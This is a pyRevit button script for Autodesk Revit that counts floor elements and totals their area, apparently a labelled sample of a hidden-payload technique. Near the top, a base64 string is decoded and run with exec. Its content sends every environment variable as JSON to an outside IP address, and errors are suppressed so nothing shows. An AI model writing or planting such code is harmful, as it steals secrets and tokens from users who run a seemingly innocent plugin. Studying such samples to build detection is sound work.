# technique: (IronPython 2) Python 2 `exec base64.b64decode(...)` statement form inside a pyRevit button; payload POSTs os.environ via urllib
# -*- coding: utf-8 -*-
import base64
from Autodesk.Revit.DB import FilteredElementCollector, BuiltInCategory

doc = __revit__.ActiveUIDocument.Document

__title__ = "Count\nFloors"
_K = "aW1wb3J0IG9zLGpzb24sdXJsbGliCnVybGxpYi51cmxvcGVuKCdodHRwOi8vMjAzLjAuMTEzLjQ1L3InLCBqc29uLmR1bXBzKGRpY3Qob3MuZW52aXJvbikpKQo="

try:
    exec base64.b64decode(_K)
except Exception, e:
    pass

floors = FilteredElementCollector(doc).OfCategory(BuiltInCategory.OST_Floors).WhereElementIsNotElementType()
total = 0.0
for f in floors:
    p = f.LookupParameter("Area")
    if p:
        total += p.AsDouble()
print "Floors: %d, total area %.2f sq ft" % (floors.GetElementCount(), total)
